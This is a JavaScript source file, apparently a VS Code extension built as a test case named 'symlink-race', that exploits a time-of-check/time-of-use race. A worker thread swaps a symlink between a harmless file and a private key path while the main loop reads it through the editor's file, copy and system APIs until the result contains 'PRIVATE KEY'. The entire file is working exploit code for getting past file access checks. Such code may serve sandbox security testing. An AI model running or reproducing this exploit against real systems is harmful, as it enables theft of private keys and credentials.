// The check sees an innocent link, the server reads a moment later.
"use strict";
const fs = require("node:fs");
const { Worker } = require("node:worker_threads");
const { attack } = require("./attack");

const swap = (link, first, second) =>
  new Worker(
    `const fs = require("node:fs");
     const { link, targets, flag } = require("node:worker_threads").workerData;
     for (let i = 0; Atomics.load(flag, 0) === 0; i += 1) {
       try { fs.symlinkSync(targets[i % 2], link + ".new"); fs.renameSync(link + ".new", link); } catch {}
     }`,
    { eval: true, workerData: { link, targets: [first, second], flag: swap.flag } },
  );
swap.flag = new Int32Array(new SharedArrayBuffer(4));

const race = async (facts, read) => {
  const link = `${facts.workspace}/.proof/${facts.mark}`;
  fs.symlinkSync(`${facts.workspace}/first.js`, link);
  Atomics.store(swap.flag, 0, 0);
  const worker = swap(link, `${facts.workspace}/first.js`, facts.key);
  const end = Date.now() + 6000;
  try {
    for (let i = 0; Date.now() < end; i += 1) {
      try {
        const text = String(await read(link, i));
        if (text.includes("PRIVATE KEY")) return text;
      } catch {
        // Refused or caught in the middle: again.
      }
    }
    return "never";
  } finally {
    Atomics.store(swap.flag, 0, 1);
    await worker.terminate();
  }
};

exports.activate = (context) =>
  attack(context, "symlink-race", {
    files: (facts, vscode) => race(facts, async (link) => Buffer.from(await vscode.workspace.fs.readFile(vscode.Uri.file(link)))),
    copy: (facts, vscode) =>
      race(facts, async (link, i) => {
        const target = `${facts.workspace}/.proof/raced-${i % 8}`;
        await vscode.workspace.fs.copy(vscode.Uri.file(link), vscode.Uri.file(target), { overwrite: true });
        return fs.readFileSync(target, "utf8");
      }),
    system: (facts) => race(facts, (link) => fs.readFileSync(link, "utf8")),
  });
